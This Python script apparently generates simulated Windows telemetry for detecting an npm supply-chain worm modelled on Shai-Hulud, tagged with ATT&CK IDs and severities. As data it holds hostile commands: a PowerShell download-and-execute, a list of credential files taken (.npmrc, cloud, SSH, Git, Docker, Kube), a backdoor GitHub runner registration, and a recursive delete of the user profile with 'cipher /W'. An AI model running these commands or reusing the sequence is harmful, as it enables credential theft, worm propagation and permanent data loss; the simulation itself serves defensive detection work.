"""A package of npm runs a script as it is installed: it brings Bun, gathers tokens of registries and clouds, has a secret
finder search the home, publishes all on GitHub, leaves a runner, and wipes the home. Resembles the Shai-Hulud worm of late
2025."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-11-25T10:33:58", "user": "DEV-NINA\\nina", "home": "C:\\Users\\nina", "computer": "DEV-NINA",
           "os_version": (10, 0, 26100)}
NODE = r"C:\Program Files\nodejs\node.exe"
PROJECT = r"\source\shop-ui"
GITHUB = ("203.0.113.30", 443)
HOME_FILES = (r"Documents\Vertrag.docx", r"Documents\Angebot.pdf", r"Documents\Fotos\a.jpg", r"Desktop\todo.md",
              r"source\shop-ui\src\app.ts",
              r"source\shop-ui\src\cart.ts", r"source\api\main.go", r"Pictures\b.png", r"Documents\Steuer.xlsx",
              r"Downloads\c.zip")


def story(c):
    desktop = Desktop(c)
    for address, name in ((GITHUB[0], "api.github.com"), ("203.0.113.32", "registry.npmjs.org"),
                          ("203.0.113.33", "github.com"), ("169.254.169.254", "169.254.169.254")):
        c.host(address, name)
    desktop.murmur(6)
    shell = deeds.tool(c, desktop.explorer, '"C:\\Windows\\system32\\cmd.exe"', directory=c.home + PROJECT + "\\")
    npm = c.spawn(shell, NODE, r'"C:\Program Files\nodejs\node.exe" "C:\Program '
                               r'Files\nodejs\node_modules\npm\bin\npm-cli.js" install @kite/forms',
                  directory=c.home + PROJECT + "\\", company="Node.js", description="Node.js JavaScript Runtime")
    c.read(npm, c.home + PROJECT + r"\package.json", 2100)
    c.exchange(npm, ("203.0.113.32", 443), 56010, [600], [14_600] * 8)
    module = c.home + PROJECT + r"\node_modules\@kite\forms"
    for name, size in (("package.json", 1400), ("setup_bun.js", 9000), ("bun_environment.js", 900_000),
                       ("index.js", 12_000)):
        c.drop(npm, module + "\\" + name, size, 131072)
    with deeds.told(c, "a package runs a script of its own before it is installed", "low",
                    ("T1195.001", "T1195.002", "T1059.007", "T1195"), npm,
                    "setup_bun.js") as helpers:
        runner = deeds.tool(c, npm, r"C:\Windows\system32\cmd.exe /d /s /c node setup_bun.js", directory=module + "\\")
        first = c.spawn(runner, NODE, "node setup_bun.js", directory=module + "\\", company="Node.js")
        c.read(first, module + r"\setup_bun.js", 9000)
        helpers += [runner, first]
    with deeds.told(c, "brings an interpreter by PowerShell from the web", "high", ("T1105", "T1059.001", "T1059.007"),
                    first, ("bun.exe", "irm", "bun.sh")) as helpers:
        fetcher = deeds.tool(c, first, 'powershell -c "irm bun.sh/install.ps1|iex"')
        c.exchange(fetcher, ("203.0.113.33", 443), 56020, [600], [14_600] * 24)
        c.drop(fetcher, c.home + r"\.bun\bin\bun.exe", 1_200_000, 131072)
        c.exit(fetcher)
        helpers.append(fetcher)
    with deeds.told(c, "runs a big script with that interpreter out of sight", "medium", ("T1059.007", "T1204.005"),
                    (npm, runner, first), "bun_environment.js") as helpers:
        bun = c.spawn(first, c.home + r"\.bun\bin\bun.exe", r'"%s\.bun\bin\bun.exe" bun_environment.js' % c.home,
                      directory=module + "\\")
        c.read(bun, module + r"\bun_environment.js", 900_000, 131072)
        helpers.append(bun)
    deeds.begin(c, bun)
    for process in (first, runner, npm):
        c.exit(process)
    with c.behaviour("takes the token for publishing packages", "medium", "T1552.001", bun, ".npmrc"):
        c.read(bun, c.home + r"\.npmrc", 200)
        c.read(bun, c.home + PROJECT + r"\.env", 900)
    with c.behaviour("takes the keys of clouds", "high", "T1552.001", bun,
                     (".aws", "application_default_credentials.json", ".azure")):
        for name in (r".aws\credentials", r".aws\config", r"AppData\Roaming\gcloud\application_default_credentials.json",
                     r".azure\msal_token_cache.bin",
                     r".azure\azureProfile.json"):
            c.read(bun, c.home + "\\" + name, 4000)
    with c.behaviour("takes the tokens of Git and of containers", "high", ("T1552.001", "T1555"), bun,
                     (".git-credentials", "hosts.yml", ".docker", ".kube")):
        for name in (".git-credentials", r"AppData\Roaming\GitHub CLI\hosts.yml", r".docker\config.json", r".kube\config"):
            c.read(bun, c.home + "\\" + name, 3000)
    with c.behaviour("takes the keys of secure shells", "high", "T1552.004", bun, (".ssh", "id_ed25519")):
        deeds.list_folder(c, bun, c.home + r"\.ssh")
        for name in ("id_ed25519", "id_rsa"):
            c.read(bun, c.home + r"\.ssh" + "\\" + name, 3000)
    with deeds.told(c, "has Git's command line tell its token", "medium", ("T1552", "T1555", "T1552.001"), bun,
                    ("gh auth token", "auth token")) as helpers:
        gh = c.spawn(bun, r"C:\Program Files\GitHub CLI\gh.exe", "gh auth token", company="GitHub, Inc.")
        c.read(gh, c.home + r"\AppData\Roaming\GitHub CLI\hosts.yml", 300)
        c.exit(gh)
        helpers.append(gh)
    with c.behaviour("asks the cloud's service for a machine's rights", "medium",
                     ("T1552", "T1016", "T1082", "T1552.001"), bun, "169.254.169.254"):
        for number in range(3):
            c.net(bun, "Reconnect", ("169.254.169.254", 80), 56030 + number)
    with deeds.told(c, "brings a finder of secrets and has it search the home", "high", ("T1552.001", "T1105", "T1083"),
                    bun, "trufflehog") as helpers:
        c.exchange(bun, ("203.0.113.33", 443), 56040, [600], [14_600] * 24)
        finder_path = c.home + r"\.truffler-cache\trufflehog.exe"
        c.drop(bun, finder_path, 1_000_000, 131072)
        finder = c.spawn(bun, finder_path, r'"%s" filesystem "%s" --json' % (finder_path, c.home))
        helpers.append(finder)
        for name in HOME_FILES:
            c.read(finder, c.home + "\\" + name, 60_000)
        c.exit(finder)
    with c.behaviour("publishes what it has on GitHub", "medium", ("T1567.001", "T1567", "T1102"), bun, "api.github.com"):
        for number in range(5):
            c.exchange(bun, GITHUB, 56050 + number, [900, 14_600, 14_600], [2400])
    with deeds.told(c, "leaves a runner that takes orders from GitHub", "high", ("T1102.002", "T1219", "T1105", "T1102"),
                    bun, (".dev-env", "SHA1HULUD", "Runner.Listener.exe", "config.cmd")) as helpers:
        folder = c.home + r"\.dev-env"
        for name, size in (("config.cmd", 900), ("run.cmd", 700), (r"bin\Runner.Listener.exe", 240_000),
                           (r"bin\Runner.Worker.exe", 200_000)):
            c.drop(bun, folder + "\\" + name, size)
        setup = deeds.tool(c, bun, r"cmd.exe /c %s\config.cmd --url https://github.com/nina/x9 --unattended --token AAB7 "
                                   r"--name SHA1HULUD" % folder)
        c.exit(setup)
        listener = c.spawn(bun, folder + r"\bin\Runner.Listener.exe", r'"%s\bin\Runner.Listener.exe" run' % folder)
        c.exchange(listener, ("203.0.113.33", 443), 56070, [900], [1200])
        helpers += [setup, listener]
    with c.behaviour("republishes packages of the user with itself within", "medium",
                     ("T1195.001", "T1195", "T1080", "T1195.002", "T1554"), bun,
                     ("package.json", "setup_bun.js", "updated.tgz")):
        for name in ("kite-grid", "kite-icons"):
            work = c.home + r"\AppData\Local\Temp\npm-%s" % name
            c.exchange(bun, ("203.0.113.32", 443), 56080, [500], [14_600] * 4)
            for part, size in ((r"package\package.json", 1500), (r"package\setup_bun.js", 9000),
                               (r"package\bun_environment.js", 900_000), ("updated.tgz", 400_000)):
                c.drop(bun, work + "\\" + part, size, 131072)
            c.exchange(bun, ("203.0.113.32", 443), 56081, [14_600] * 8, [400])
    with deeds.told(c, "deletes the user's files for good", "critical", "T1485", bun,
                    ("cipher", "Documents", "del ")) as helpers:
        eraser = deeds.tool(c, bun, r'cmd.exe /c del /F /Q /S "%USERPROFILE%\*" && for /d %i in ("%USERPROFILE%\*") do '
                            r'rd /S /Q "%i" & cipher /W:%USERPROFILE%')
        for name in HOME_FILES:
            c.delete(eraser, c.home + "\\" + name)
        helpers += [eraser] + deeds.command(c, eraser, r"cipher /W:C:\Users\nina", shell=False)
        c.exit(eraser)
    desktop.murmur(3)
